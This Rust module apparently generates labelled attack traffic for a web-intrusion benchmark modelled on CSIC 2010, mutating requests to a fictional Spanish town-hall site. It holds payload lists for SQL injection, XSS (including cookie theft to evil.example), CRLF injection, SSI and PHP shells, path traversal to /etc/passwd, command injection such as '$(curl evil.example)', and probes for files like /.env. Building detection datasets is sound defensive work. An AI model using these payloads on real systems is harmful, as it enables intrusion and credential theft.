//! How the benchmark's town hall is attacked: in the ways that CSIC 2010 names, as tools do it and as patient
//! people do it.

use fastrand::Rng;

use super::attack::{answered, payload};
use super::csic::change;
use super::request::{Request, pick, token};

/// The kinds of attack, as they are reported.
pub(super) const KINDS: [&str; 16] = [
    "SQL injection",
    "script",
    "CRLF injection",
    "server-side include",
    "file of another place",
    "command or format",
    "buffer overflow",
    "tampered name",
    "removed parameter",
    "added parameter",
    "wrong type",
    "replaced value",
    "repeated parameter",
    "hidden file",
    "fixed session",
    "method",
];

const SQL: [&str; 28] = [
    "'",
    "''",
    "\"",
    "')",
    "'--",
    "' or 'a'='a",
    "' OR 1=1#",
    "\") or (\"1\"=\"1",
    "' and 1=2 union select null,concat(usuario,0x3a,clave),null from usuarios-- ",
    "-9999 union all select 1,2,3,4,load_file(0x2f6574632f706173737764)#",
    "' AND SLEEP(5) AND 'x'='x",
    "'; WAITFOR DELAY '0:0:5'--",
    "1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from mysql.user group by x)a)",
    "' and extractvalue(1,concat(0x7e,user()))-- -",
    " order by 30",
    "' ORDER BY 1-- -",
    "'||'",
    "' + '",
    "\\",
    "' like '%",
    "%' and '%'='",
    "'; drop table ofertas;--",
    "/*!50000union*//*!50000select*/1,2",
    " and 1=1",
    " rlike sleep(3)",
    "' xor(if(now()=sysdate(),sleep(6),0))xor'z",
    "if(1=1,1,0)",
    "(select*from(select(sleep(4)))a)",
];
const SCRIPT: [&str; 18] = [
    "<script>alert('XSS')</script>",
    "'\"><script src=//evil.example/x.js></script>",
    "\"><svg onload=alert(document.domain)>",
    "<img src=1 onerror=fetch('//evil.example/'+document.cookie)>",
    "'><b>hola</b>",
    "\" autofocus onfocus=\"alert(1)",
    "' style='width:expression(alert(1))",
    "javascript:alert(1)//",
    "JaVaScRiPt:/**/alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "</textarea><script>prompt(1)</script>",
    "<a href=javas&#99;ript:alert(1)>ver</a>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>@import'//evil.example/x.css'</style>",
    "<marquee onstart=alert(1)>",
    "\"});alert(1);//",
    "<",
];
const LINES: [&str; 8] = [
    "\r\nSet-Cookie: PHPSESSID=fijada",
    "es\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>",
    "\nLocation: //evil.example",
    "%0d%0aX-Prueba:1",
    "%0aSet-Cookie:a=1",
    "x@x.example\r\nBcc: todos@empleo.example",
    "\r\n.\r\nMAIL FROM:<a@evil.example>",
    "\u{560a}\u{560d}Set-Cookie:a=1",
];
const INCLUDE: [&str; 7] = [
    "<!--#exec cmd=\"/bin/ls -l\" -->",
    "<!--#include file=\"config.inc\"-->",
    "<!--#echo var=\"DOCUMENT_ROOT\"-->",
    "<!--#flastmod file=\"index.php\" -->",
    "--><!--#printenv -->",
    "<?php system($_GET[0]);?>",
    "<%=Runtime.getRuntime()%>",
];
const FILES: [&str; 18] = [
    "../../../../../etc/passwd",
    "../config.php",
    "..\\..\\..\\boot.ini",
    "....//....//....//etc/hosts",
    "/etc/passwd",
    "/var/log/apache2/access.log",
    "../../../proc/self/environ\0",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e%252fconf.inc",
    "php://filter/read=convert.base64-encode/resource=conexion",
    "data://text/plain;base64,PD9waHA=",
    "expect://id",
    "http://evil.example/shell.txt?",
    "ftp://evil.example/x",
    "//evil.example/",
    "file:///c:/windows/win.ini",
    ".htaccess",
    "./",
];
const COMMAND: [&str; 14] = [
    ";id",
    "|whoami",
    "`sleep 5`",
    "$(curl evil.example)",
    "&& ping -c 3 198.51.100.7",
    "|| dir c:\\",
    "\n/usr/bin/id\n",
    "%x%x%x%x%n",
    "%s%s%s%s",
    "{${phpinfo()}}",
    ";phpinfo();",
    "*)(objectClass=*",
    "{{7*'7'}}",
    "${{<%[%'\"}}%\\",
];
const ADDED: [(&str, &str); 14] = [
    ("admin", "1"),
    ("debug", "true"),
    ("es_admin", "S"),
    ("rol", "administrador"),
    ("cmd", "ls"),
    ("GLOBALS[conf]", "1"),
    ("_SERVER[REMOTE_ADDR]", "127.0.0.1"),
    ("ruta", "../"),
    ("XDEBUG_SESSION_START", "1"),
    ("modo_prueba", "1"),
    ("validado", "1"),
    ("id_usuario", "1"),
    ("include", "config"),
    ("a", ""),
];
const HIDDEN: [&str; 30] = [
    "/admin/",
    "/administrador/login.php",
    "/phpmyadmin/index.php",
    "/pma/",
    "/config.php.bak",
    "/conexion.inc",
    "/includes/conexion.inc",
    "/empleo/config.old",
    "/empleo/ofertas.php~",
    "/empleo/.ofertas.php.swp",
    "/empleo/adjuntos/",
    "/empleo/adjuntos/cv/",
    "/empleo/test.php",
    "/empleo/empresa/admin.php",
    "/sede/WEB-INF/web.xml",
    "/sede/index.jsp.old",
    "/sede/registro/instancia.java",
    "/copia_seguridad.sql.gz",
    "/backup/empleo.tar",
    "/web.rar",
    "/info.php",
    "/install.php",
    "/cgi-bin/printenv",
    "/.git/HEAD",
    "/.env",
    "/error_log",
    "/Copia de index.php",
    "/c99.php",
    "/xmlrpc.php",
    "/server-status",
];
const METHODS: [&str; 7] = [
    "PUT", "DELETE", "TRACE", "OPTIONS", "PROPFIND", "CONNECT", "DEBUG",
];

/// An attack made of an ordinary request, and its kind; none where this request has nothing to attack.
pub(super) fn make(random: &mut Rng, mut request: Request) -> Option<(Request, usize)> {
    let kind = random.usize(..KINDS.len());
    match kind {
        0 => sql(random, &mut request)?,
        1 => put(random, &mut request, &SCRIPT)?,
        2 => put(random, &mut request, &LINES)?,
        3 => put(random, &mut request, &INCLUDE)?,
        4 => change(random, &mut request, |random, name, value| {
            let is_file = [
                "fichero", "carpeta", "seccion", "volver", "idioma", "id", "canal", "ref",
            ];
            is_file
                .contains(&name)
                .then(|| payload(random, &FILES, value))
        })?,
        5 => put(random, &mut request, &COMMAND)?,
        6 => {
            let length = random.usize(600..4_000);
            let text = match random.u32(..4) {
                0 => token(random, length),
                1 => random.digit(10).to_string().repeat(length),
                _ => pick(random, &["A", "a", "\u{90}", "%00", "B0F!"]).repeat(length / 2),
            };
            request.any(random)?.1 = text;
        }
        7 => {
            let (name, _) = request.any(random)?;
            if name.len() < 2 || name == "_" {
                return None;
            }
            renamed(random, name);
        }
        8 => removed(random, &mut request)?,
        9 => {
            let (name, value) = ADDED[random.usize(..ADDED.len())];
            let place = random.usize(..=request.query.len());
            request
                .query
                .insert(place, (name.to_owned(), value.to_owned()));
        }
        10 => change(random, &mut request, wrong)?,
        11 => change(random, &mut request, |random, name, _| {
            replaced(random, name).map(str::to_owned)
        })?,
        12 => {
            let (name, value) = request.any(random)?.clone();
            if name.ends_with("[]") {
                return None;
            }
            let other = pick(random, &[value.as_str(), "1", "", "x", "-1"]).to_owned();
            request.query.push((name, other));
        }
        13 => return Some((hidden(random, &request), kind)),
        14 => session(random, &mut request)?,
        _ => {
            if request.method != "GET" {
                return None;
            }
            request.method = METHODS[random.usize(..METHODS.len())];
        }
    }
    if random.bool() {
        request.referrer.clear();
    }
    Some((answered(random, request), kind))
}

fn put(random: &mut Rng, request: &mut Request, all: &[&str]) -> Option<()> {
    let (_, value) = request.any(random)?;
    *value = payload(random, all, value);
    Some(())
}

/// Behind a number also what a database would take for one.
fn sql(random: &mut Rng, request: &mut Request) -> Option<()> {
    let (_, value) = request.any(random)?;
    let is_number = !value.is_empty() && value.bytes().all(|byte| byte.is_ascii_digit());
    *value = if is_number && random.u32(..3) == 0 {
        let end = pick(
            random,
            &["-0", "*1", "-(1)", " div 1", "/**/", "e0", " and 1"],
        );
        format!("{value}{end}")
    } else {
        payload(random, &SQL, value)
    };
    Some(())
}

fn renamed(random: &mut Rng, name: &mut String) {
    match random.u32(..5) {
        0 => name.push_str(pick(random, &["A", "2", "[]", "[$ne]", "'"])),
        1 => *name = format!("{}{name}", pick(random, &["_", "x", "amp;", " "])),
        2 => drop(name.pop()),
        3 => name.push_str("%00"),
        _ => *name = name.chars().rev().collect(),
    }
}

/// Takes away what a page always sends.
fn removed(random: &mut Rng, request: &mut Request) -> Option<()> {
    let always = [
        "token",
        "nif",
        "accion",
        "procedimiento",
        "clave2",
        "emisora",
        "oficina",
        "ViewState",
        "h",
        "tipo_doc",
        "numero",
        "categoria",
        "importe",
        "fichero",
        "boletin",
    ];
    let places: Vec<usize> = (0..request.query.len())
        .filter(|place| always.contains(&request.query[*place].0.as_str()))
        .collect();
    let place = *places.get(random.usize(..places.len().max(1)))?;
    request.query.remove(place);
    Some(())
}

/// What no program of the site's would make, and no hand by mistake.
fn wrong(random: &mut Rng, name: &str, value: &str) -> Option<String> {
    let (is_number, is_typed) = (
        [
            "id",
            "oferta",
            "cv",
            "id_cv",
            "pag",
            "p",
            "paso",
            "oficina",
            "estudios",
            "pregunta",
            "categoria",
            "voto",
            "u",
            "max",
            "plazas",
            "r",
            "_",
            "enviar.x",
            "enviar.y",
            "identificacion",
        ]
        .contains(&name),
        [
            "cp", "nif", "telefono", "f_nac", "importe", "boletin", "fecha", "csv", "lat", "naf",
        ]
        .contains(&name),
    );
    Some(match random.u32(..7) {
        _ if !is_number && !is_typed => return None,
        0 => "ABCDEFGHIJ".to_owned(),
        1 => format!("{value}=={value}"),
        2 => pick(random, &["null", "NaN", "true", "undefined", "Array"]).to_owned(),
        3 => pick(random, &["-1", "-2147483649", "1e308", "0x41"]).to_owned(),
        4 => format!("[{value}]"),
        5 if is_number => format!("{value}.5"),
        5 => format!("{{{value}}}"),
        _ => format!("{value}zzz{}", token(random, 3)),
    })
}

/// What stands in lists and hidden boxes, with values that are in none.
fn replaced(random: &mut Rng, name: &str) -> Option<&'static str> {
    let others: &[&str] = match name {
        "accion" | "op" | "modo" => &["borrar", "eliminar_todo", "admin", "exportar", "X"],
        "tipo" | "tipo_doc" | "calidad" | "bloque" => &["root", "ADMIN", "9", "empleado", "*"],
        "jornada" | "frecuencia" | "disponibilidad" | "notificacion" => {
            &["siempre", "Z", "99", "-"]
        }
        "orden" | "dir" => &["clave", "rand()", "1", "usuario", "asc,1"],
        "carpeta" | "canal" => &["privado", "..", "todos", "empleados", "tmp"],
        "seccion" | "pestana" => &["admin", "phpinfo", "usuarios", "test"],
        "volver" => &[
            "http://evil.example/",
            "//evil.example/empleo",
            "\\\\evil.example",
            "javascript:0",
        ],
        "idioma" => &["xx", "../es", "ES'", "zz-ZZ", "0"],
        "importe" => &["-45,00", "0x10", "-0"],
        "voto" | "paso" | "estrellas" | "plazas" => &["99999", "-5", "0.0001"],
        "emisora" | "tramite" | "procedimiento" => &["000000", "ADM-99", "GEN-00' ", "*"],
        "medio" => &["gratis", "prueba", "ninguno"],
        "enviar" | "buscar" => &["Eliminar", "DELETE", "1"],
        "recordar" | "lopd" | "condiciones" => &["SELECT", "quizas", "-1"],
        "algo" | "cop" => &["none", "MD2", "cmd"],
        _ => return None,
    };
    Some(pick(random, others))
}

fn hidden(random: &mut Rng, request: &Request) -> Request {
    let is_script = [".php", ".jsp"]
        .iter()
        .any(|end| request.path.ends_with(end));
    let path = if is_script && random.u32(..3) == 0 {
        let end = pick(
            random,
            &[
                ".bak", ".old", ".inc", "~", ".orig", ".txt", "s", ".save", "/.", ".1", "%00",
            ],
        );
        format!("{}{end}", request.path)
    } else {
        pick(random, &HIDDEN).to_owned()
    };
    let (status, bytes) = match random.u32(..12) {
        0 => (200, 1_704),
        1 | 2 => (403, 288),
        _ => (404, 7_204),
    };
    Request::get(path, bytes).answered(status, bytes)
}

/// A session that the attacker chose, in the address where the site reads it, or where another would.
fn session(random: &mut Rng, request: &mut Request) -> Option<()> {
    let (_, end) = request.path.rsplit_once('.')?;
    if end == "jsp" {
        let session = match random.u32(..3) {
            0 => "1234".to_owned(),
            1 => token(random, 32).to_uppercase(),
            _ => "fijada\"><b>".to_owned(),
        };
        request.path = format!("{};jsessionid={session}", request.path);
        return Some(());
    }
    if end != "php" {
        return None;
    }
    let session = match random.u32(..5) {
        0 => random.u32(1..99_999).to_string(),
        1 => pick(random, &["fijada", "atacante", "SESION1", "deleted"]).to_owned(),
        2 => format!("{}'", token(random, 26)),
        3 => format!("../{}", token(random, 10)),
        _ => token(random, 64),
    };
    request.query.retain(|(name, _)| name != "PHPSESSID");
    request.query.push(("PHPSESSID".to_owned(), session));
    Some(())
}
